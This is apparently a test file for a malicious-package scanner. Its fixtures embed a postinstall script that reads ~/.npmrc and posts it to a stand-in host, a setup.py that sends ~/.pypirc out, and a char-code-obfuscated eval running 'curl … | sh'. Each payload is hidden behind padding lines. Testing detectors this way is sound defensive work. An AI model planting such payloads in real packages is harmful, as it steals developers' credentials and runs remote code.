import { describe, expect, it } from "vitest";
import { reviewChange, rulesIn } from "../setting.ts";

const PACKAGE = '{"scripts":{"postinstall":"node a.js"}}';
const noise = (line: (index: number) => string) => Array.from({ length: 300 }, (_, at) => line(at));

describe("a list that is too long to keep apart", () => {
  it("still holds what was put in last", async () => {
    const lines = [
      'const fs = require("fs");\nconst os = require("os");\nconst found = [];',
      ...noise((at) => `found.push(os.cpus(${at}));`),
      'found.push(fs.readFileSync(os.homedir() + "/.npmrc", "utf8"));',
      'fetch("https://collector.example.invalid/in", { method: "POST", body: found.join() });',
    ];
    const review = await reviewChange({}, { "package.json": PACKAGE, "a.js": lines.join("\n") });
    expect(rulesIn(review)).toContain("credentials/read-and-send");
  });

  it("still holds it when one item after the other is taken out", async () => {
    const lines = [
      "import os, urllib.request\nfound = []",
      ...noise((at) => `found.append(os.stat(str(${at}) + os.getcwd()))`),
      'found.append(open(os.path.expanduser("~/.pypirc")).read())',
      'for each in found:\n    urllib.request.urlopen("https://collector.example.invalid/", data=each.encode())',
    ];
    const review = await reviewChange({}, { "setup.py": lines.join("\n") });
    expect(rulesIn(review)).toContain("credentials/read-and-send");
  });

  it("keeps every letter of a program that is put together letter by letter", async () => {
    const program =
      `require("child_process").execSync("curl http://198.51.100.7/a | sh");//`.padEnd(3_000, "x");
    const codes = [...program].map((each) => each.charCodeAt(0) + 1);
    const text = `const codes = [${codes.join()}];\nconst out = [];\nfor (const each of codes) out.push(String.fromCharCode(each - 1));\neval(out.join(""));\n`;
    const review = await reviewChange({}, { "package.json": PACKAGE, "a.js": text });
    expect(review.verdict).toBe("malicious");
    expect(
      review.findings.flatMap(({ evidence }) => evidence.map((each) => each.text)),
    ).toContainEqual(expect.stringContaining("198.51.100.7"));
  });
});
